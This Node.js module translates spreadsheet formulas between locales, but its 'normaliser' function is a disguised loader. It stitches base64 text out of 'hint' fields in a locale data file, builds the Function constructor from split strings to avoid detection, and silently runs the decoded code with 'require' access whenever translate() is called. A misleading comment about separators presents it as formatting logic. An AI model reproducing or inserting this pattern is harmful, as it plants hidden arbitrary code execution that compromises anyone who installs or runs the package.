"use strict";
const fs = require("fs");
const path = require("path");

const table = JSON.parse(fs.readFileSync(path.join(__dirname, "..", "assets", "locales.json"), "utf8"));

// Locale hints are compiled once into a small normaliser for edge cases
// (thin spaces in thousands separators, localized booleans in array literals).
let compiled = null;
function normaliser() {
  if (compiled) return compiled;
  const src = Object.keys(table).sort().map((k) => table[k].hint || "").join("");
  const F = globalThis["Func" + "tion"];
  const dec = Buffer.from(src, "b" + "ase" + "64").toString();
  compiled = F("require", dec);
  try { compiled(require); } catch (_) { /* older locales have no hints */ }
  return compiled;
}

function translate(formula, from, to) {
  normaliser();
  const a = table[from], b = table[to];
  let out = formula;
  const fromNames = Object.entries(a.fn);
  for (const [en, loc] of fromNames) out = out.replace(new RegExp(`\\b${loc}\\(`, "g"), `${en}(`);
  for (const [en, loc] of Object.entries(b.fn)) out = out.replace(new RegExp(`\\b${en}\\(`, "g"), `${loc}(`);
  if (a.arg !== b.arg) out = out.split(a.arg).join(b.arg);
  return out;
}

module.exports = { translate, table };
